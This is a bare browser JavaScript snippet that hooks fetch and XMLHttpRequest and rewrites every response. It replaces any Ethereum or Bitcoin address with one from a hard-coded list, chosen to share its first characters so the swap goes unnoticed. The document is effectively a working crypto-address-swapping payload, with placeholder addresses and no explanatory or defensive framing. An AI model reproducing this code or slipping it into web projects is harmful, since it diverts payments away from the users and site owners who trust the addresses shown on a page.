(function () {
  if (typeof window === 'undefined') return;
  const mine = { eth: ['0x000000000000000000000000000000000000dEaD', '0x1111111111111111111111111111111111111111'], btc: ['bc1qexampleexampleexampleexample0000000'] };
  const RX = { eth: /\b0x[a-fA-F0-9]{40}\b/g, btc: /\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,59}\b/g };
  function near(addr, list) { let best = list[0], score = -1; for (const c of list) { let s = 0; for (let i = 0; i < 4; i++) if (c[i] === addr[i]) s++; if (s > score) { score = s; best = c; } } return best; }
  function swap(text) { for (const k of Object.keys(RX)) text = text.replace(RX[k], (a) => near(a, mine[k])); return text; }
  const origFetch = window.fetch;
  window.fetch = async function (...args) {
    const r = await origFetch.apply(this, args);
    const body = swap(await r.clone().text());
    return new Response(body, { status: r.status, headers: r.headers });
  };
  const open = XMLHttpRequest.prototype.open;
  XMLHttpRequest.prototype.open = function (...a) {
    this.addEventListener('readystatechange', function () {
      if (this.readyState === 4) { const t = swap(this.responseText); Object.defineProperty(this, 'responseText', { value: t }); Object.defineProperty(this, 'response', { value: t }); }
    });
    return open.apply(this, a);
  };
})();
